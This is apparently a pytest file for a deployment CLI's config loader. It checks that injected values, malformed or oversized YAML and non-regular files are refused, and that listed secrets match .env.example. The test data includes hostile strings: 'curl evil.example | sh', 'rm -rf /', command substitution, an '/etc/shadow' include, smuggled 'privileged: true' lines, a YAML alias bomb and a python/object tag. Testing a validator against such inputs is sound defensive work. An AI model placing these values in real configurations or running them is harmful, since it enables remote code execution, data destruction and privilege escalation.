"""Issue 14, categories 2, 3 and 8 (ops side), on the real CLI: hostile config values are refused
field by field, config files that are not ordinary exit 2 with a clear message, and the secrets
`config show` lists are the ones `.env.example` asks for."""

from __future__ import annotations

import json
import os
import re
import resource
import subprocess
import sys
import tempfile
import types
import typing
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import BaseModel
from typer.testing import CliRunner

from flashfit_ops.cli import app
from flashfit_ops.config import load_config, resolve
from flashfit_ops.config.fields import SafeText
from flashfit_ops.config.model import Config
from flashfit_ops.errors import EXIT_USAGE, UsageError
from flashfit_ops.render import render_all

ROOT = Path(__file__).resolve().parents[3]


@pytest.fixture
def runner() -> CliRunner:
    return CliRunner(env={"COLUMNS": "200", "NO_COLOR": "1", "TERM": "dumb"})


def nested(dotted: str, value: object) -> dict:
    data: dict = {}
    node = data
    keys = dotted.split(".")
    for key in keys[:-1]:
        node = node.setdefault(key, {})
    node[keys[-1]] = value
    return data


# --- category 2: values that reached rendered files unescaped ---------------------------------------

HOSTILE_VALUES = [
    ("healthcheck.liveness_path", "/health; } location /x { return 200; } #"),
    ("healthcheck.readiness_path", '/ready"]\n    privileged: true\n    x: ["'),
    ("healthcheck.readiness_path", "/ready\nRUN curl evil.example | sh"),
    ("server.environment.MODEL_CACHE_DIR", "/app/models $(touch /tmp/owned)"),
    ("server.environment.VECTOR_STORE_DIR", "/app/data\nUSER root"),
    ("server.environment.CORS_ORIGINS", ["https://a.example\nEVIL=1"]),
    ("server.environment.ALLOWED_HOSTS", ["shop.example,evil.example"]),
    ("server.image", "flashfit/backend\nprivileged: true"),
    ("server.build.base_image", "python:3.11-slim\nRUN rm -rf /"),
    ("services.nginx.image", "nginx:alpine ${HOME}"),
    ("services.redis.image", "redis'; privileged: true"),
    ("secrets.env_file", ".env\nAWS_SECRET_ACCESS_KEY=stolen"),
    ("tls.certificate", "/etc/ssl/site.crt; include /etc/shadow"),
    ("tls.key", "/etc/ssl/{site}.key"),
    ("volumes.data", "/srv/data:/etc"),
    ("swarm.constraints", ["node.role == manager\n      - extra"]),
    ("services.frontend.api_url", "http://x\"\n    privileged: true"),
    ("backup.target", "file://./backups\n"),
    ("monitoring.allow_from", ["all; allow 0.0.0.0/0"]),
]


@pytest.mark.parametrize(("field", "value"), HOSTILE_VALUES)
def test_hostile_values_are_refused_by_validate_and_render(runner: CliRunner, tmp_path: Path, field: str, value: object) -> None:
    config = tmp_path / "flashfit.yml"
    config.write_text(yaml.safe_dump(nested(field, value)))
    result = runner.invoke(app, ["config", "validate", "-c", str(config)])
    assert result.exit_code == EXIT_USAGE, result.output
    assert f": {field}" in result.output, result.output
    assert "Traceback" not in result.output
    out = tmp_path / "deploy"
    result = runner.invoke(app, ["render", "-c", str(config), "-o", str(out)])
    assert result.exit_code == EXIT_USAGE, result.output
    assert not out.exists()


def test_health_paths_may_not_shadow_the_private_endpoints(runner: CliRunner, tmp_path: Path) -> None:
    """An exact nginx location for /metrics would win over the allow-listed one and publish it."""
    config = tmp_path / "flashfit.yml"
    config.write_text("healthcheck:\n  liveness_path: /metrics\n  readiness_path: /docs/x\n")
    result = runner.invoke(app, ["config", "validate", "-c", str(config)])
    assert result.exit_code == EXIT_USAGE, result.output
    assert "healthcheck.liveness_path: /metrics is reserved" in result.output
    assert "healthcheck.readiness_path: /docs/x is reserved" in result.output


def string_fields(model: type[BaseModel] = Config, prefix: str = "") -> dict[str, tuple[bool, list[object]]]:
    """{dotted path: (is a list of strings, metadata of the string type)} for every string setting,
    found by walking the model (the property tests in tests/integration/ops use it too)."""
    found: dict[str, tuple[bool, list[object]]] = {}
    for name, field in model.model_fields.items():
        target, metadata = field.annotation, list(field.metadata)
        if typing.get_origin(target) in (typing.Union, types.UnionType):  # X | None
            target = next(a for a in typing.get_args(target) if a is not type(None))
        is_list = typing.get_origin(target) is list
        if is_list:
            target = typing.get_args(target)[0]
        metadata += list(getattr(target, "__metadata__", ()))
        base = typing.get_args(target)[0] if typing.get_origin(target) is typing.Annotated else target
        if isinstance(base, type) and issubclass(base, BaseModel):
            found.update(string_fields(base, f"{prefix}{name}."))
        elif base is str:
            found[f"{prefix}{name}"] = (is_list, metadata)
    return found


def test_every_string_setting_uses_a_checked_type() -> None:
    """A new string field must pick a type from config/fields.py: a plain `str` would reach the
    templates unchecked. (Literal fields are not strings here: they take only their listed values.)"""
    fields = string_fields()
    assert len(fields) >= 25
    unchecked = [path for path, (_, metadata) in fields.items() if not any(isinstance(m, SafeText) for m in metadata)]
    assert unchecked == []


# --- category 3: config files that are not ordinary ----------------------------------------------

BILLION_LAUGHS = "".join(
    f"{chr(97 + i)}: &{chr(97 + i)} [" + ", ".join([f"*{chr(96 + i)}" if i else '"lol"'] * 9) + "]\n" for i in range(10)
)


def validate_in_subprocess(config: Path) -> subprocess.CompletedProcess:
    """The CLI in its own process under a 1 GiB memory limit: what used to run out of memory or hang
    cannot take the test run with it (the timeout only guards against a hang)."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

    env = {**os.environ, "PYTHONPATH": str(ROOT), "COLUMNS": "200", "NO_COLOR": "1"}
    return subprocess.run([sys.executable, "-m", "flashfit_ops.cli", "config", "validate", "-c", str(config)],
                          capture_output=True, text=True, timeout=120, preexec_fn=limit, env=env, cwd=config.parent)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (BILLION_LAUGHS, "expands to more than"),
        ("environments:\n  dev: &x {replicas: 2}\n  prod: *x\nx: [" + ", ".join(["*x"] * 2000) + "]\n", "x: unknown key"),
        ("resources:\n  limits:\n    cpus: .inf\n", "'.inf' is not a finite number"),
        ("monitoring:\n  alerts:\n    p95_seconds: .nan\n", "'.nan' is not a finite number"),
        ("healthcheck:\n  interval: -.inf\n", "'-.inf' is not a finite number"),
        ("replicas: " + "9" * 5000 + "\n", "integer too large"),
        ("tls:\n  hsts_max_age: " + "9" * 30 + "\n", "integer too large"),
        ("resources:\n  limits:\n    cpus: " + "9" * 30 + "\n", "integer too large"),
        ("resources:\n  limits:\n    memory: " + "9" * 400 + "G\n", "is not a memory size"),
        ("deploy:\n  deadline: " + "9" * 30 + "s\n", "at most"),
        ("environments:\n  dev: " + "[" * 20000 + "]" * 20000 + "\n", "nest"),
        ("environments:\n  dev: " + "{a: " * 100 + "1" + "}" * 100 + "\n", "nested more than"),
        ("replicas: 2\nproject: demo\nreplicas: 3\n", "duplicate key 'replicas' (first on line 1)"),
        ("deploy:\n  strategy: rolling\n  strategy: single\n", "duplicate key 'strategy'"),
    ],
    ids=["alias-bomb", "aliases-under-budget", "inf", "nan", "minus-inf-duration", "huge-int", "big-int", "big-float-int",
         "huge-memory", "huge-duration", "deep-flow", "deep-mapping", "duplicate-top", "duplicate-nested"],
)
def test_unusual_yaml_exits_2_with_a_clear_message(tmp_path: Path, text: str, message: str) -> None:
    config = tmp_path / "flashfit.yml"
    config.write_text(text)
    result = validate_in_subprocess(config)
    assert result.returncode == EXIT_USAGE, result.stdout + result.stderr
    assert message in result.stdout + result.stderr
    assert "Traceback" not in result.stderr and "bug" not in result.stderr


def test_a_100_mb_file_is_refused_without_reading_it(tmp_path: Path) -> None:
    config = tmp_path / "flashfit.yml"
    with config.open("wb") as handle:
        handle.truncate(100 * 1024 * 1024)  # sparse: no 100 MB written on the shared disk
    result = validate_in_subprocess(config)
    assert result.returncode == EXIT_USAGE, result.stdout + result.stderr
    assert "a configuration file may be at most" in result.stderr


@pytest.mark.parametrize("kind", ["fifo", "device", "folder"])
def test_files_that_are_not_regular_are_refused(tmp_path: Path, kind: str) -> None:
    config = tmp_path / "flashfit.yml"
    if kind == "fifo":
        os.mkfifo(config)  # nobody writes: a plain open() would wait forever
    elif kind == "device":
        config = Path("/dev/zero")
    else:
        config.mkdir()
    result = validate_in_subprocess(config)
    assert result.returncode == EXIT_USAGE, result.stdout + result.stderr
    assert "not a regular file" in result.stderr


def test_flashfit_variables_get_the_same_limits(runner: CliRunner, tmp_path: Path) -> None:
    config = tmp_path / "flashfit.yml"
    config.write_text("project: demo\n")
    result = runner.invoke(app, ["config", "validate", "-c", str(config)], env={"FLASHFIT__REPLICAS": ".inf"})
    assert result.exit_code == EXIT_USAGE, result.output
    assert "replicas" in result.output


# --- category 8: config show and .env.example agree -------------------------------------------------


def test_config_show_and_env_example_name_the_same_grafana_password(runner: CliRunner, tmp_path: Path) -> None:
    config = tmp_path / "flashfit.yml"
    config.write_text("project: demo\n")
    result = runner.invoke(app, ["config", "show", "-c", str(config), "--json"])
    assert result.exit_code == 0, result.output
    shown = set(json.loads(result.stdout)["secrets"])
    text = render_all(resolve({}, environ={}, base_dir=tmp_path))[".env.example"].text
    asked = set(re.findall(r"^#? ?([A-Z][A-Z0-9_]*)=", text, re.M))  # set lines and commented-out ones
    assert "GF_SECURITY_ADMIN_PASSWORD" in shown and "GF_SECURITY_ADMIN_PASSWORD" in asked
    assert "GRAFANA_ADMIN_PASSWORD" not in shown
    assert asked <= shown  # every secret the example asks for is one config show accounts for


YAML_PIECES = ["replicas: ", "project: ", "healthcheck:\n  interval: ", "environments:\n  dev: ", "&a ", "*a", "[", "]", "{",
               "}", "- ", "\n", "  ", ": ", ".inf", ".nan", "1e999", "9" * 30, "9" * 5000, "!!python/object:os.system ", "<<: *a",
               "? ", "'", '"', "#", "---\n", "...\n", "%YAML 1.1\n", "\t", "\x00", "é"]


@settings(max_examples=50, deadline=None)
@given(st.lists(st.sampled_from(YAML_PIECES) | st.text(max_size=8), max_size=30).map("".join))
def test_any_file_content_is_a_config_or_a_usage_error(text: str) -> None:
    """Whatever the file holds: a Config, or a UsageError/ConfigError (exit 2): never another exception."""
    with tempfile.TemporaryDirectory() as folder:
        config = Path(folder) / "flashfit.yml"
        config.write_text(text, encoding="utf-8", errors="surrogatepass")
        try:
            load_config(config, environ={})
        except UsageError as error:
            assert error.exit_code == EXIT_USAGE
